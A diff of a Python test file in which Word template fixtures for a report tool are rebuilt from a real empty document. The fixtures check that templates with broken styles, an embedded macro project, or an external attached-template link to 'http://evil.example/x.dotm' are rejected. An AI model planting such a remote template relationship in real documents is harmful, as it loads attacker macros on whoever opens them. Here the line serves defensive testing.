@@ -4,10 +4,11 @@ from __future__ import annotations
 
 import io
 import json
-import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 from typing import NamedTuple
+
+import docx
 
 from tests.forms.broken_cells import Case, corpus
 from tests.forms.workbook_builder import Book, filled, packed, parts_of
@@ -131,25 +132,21 @@ def saved_results() -> Iterator[Raising]:
 
 
 def templates() -> Iterator[Raising]:
-    link = (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
-        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+    """An empty document of Word's, and what must not be in one."""
+    document = io.BytesIO()
+    docx.Document().save(document)
+    parts = parts_of(document.getvalue())
+    links, link = (
+        "word/_rels/document.xml.rels",
+        (
+            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+        ),
     )
     for code, more in {
-        "E612": {},
-        "E613": {"word/vbaProject.bin": "x"},
-        "E614": {"word/_rels/document.xml.rels": link},
+        "E612": {"word/styles.xml": b"<w:"},
+        "E613": {"word/vbaProject.bin": b"x"},
+        "E614": {links: parts[links].replace(b"</Relationships>", link)},
     }.items():
         words = ("report", EXAMPLE, "-o", "r.docx", "--template", "house.docx")
-        yield Raising(code, words, {"house.docx": package({"word/document.xml": "<w:document/>", **more})})
-
-
-def package(parts: dict[str, str]) -> bytes:
-    """A Word file of these parts; one without its styles is no usable template."""
-    content = io.BytesIO()
-    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
-    with zipfile.ZipFile(content, "w") as archive:
-        for name, text in {"[Content_Types].xml": types, **parts}.items():
-            archive.writestr(name, text)
-    return content.getvalue()
+        yield Raising(code, words, {"house.docx": packed(parts | more)})
